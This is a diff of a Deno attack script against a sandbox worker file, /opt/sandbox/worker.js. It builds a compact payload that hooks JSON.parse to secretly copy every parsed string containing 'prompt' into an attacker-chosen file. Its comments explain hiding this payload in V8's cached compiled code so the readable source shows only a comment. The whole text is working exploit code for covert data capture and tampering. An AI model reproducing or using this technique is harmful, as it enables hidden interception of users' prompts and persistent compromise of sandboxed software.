@@ -14,8 +14,12 @@ import { DatabaseSync } from "node:sqlite";
 const [stolen, keep] = Deno.args;
 const WORKER = "/opt/sandbox/worker.js";
 const SPECIFIER = `file://${WORKER}`;
-const payload = `;(()=>{let P=JSON.parse;JSON.parse=(function(s,r){s.includes?.('"prompt"')&&` +
-  `Deno.writeTextFileSync(${JSON.stringify(stolen)},s+"\\n",{append:!0});return P(s,r)})})();`;
+// As short as it can be: it must fit in the room the comments leave (the bundles name their npm
+// modules from the cache's `npm/` on: ~150 characters of comment at most). Its functions are in
+// parentheses: V8 compiles those at once, into the cached code; any other it compiles when first
+// called, from the source it then has — the real one, where the payload is a comment.
+const payload = `;JSON.parse=(P=>(function(s,r){/"prompt"/.test(s)&&` +
+  `Deno.writeTextFileSync(${JSON.stringify(stolen)},s+"\\n",{append:1});return P(s,r)}))(JSON.parse);`;
 
 const source = Deno.readTextFileSync(WORKER);
 // The longest run of top-level comment or blank lines (esbuild's `// path` lines).
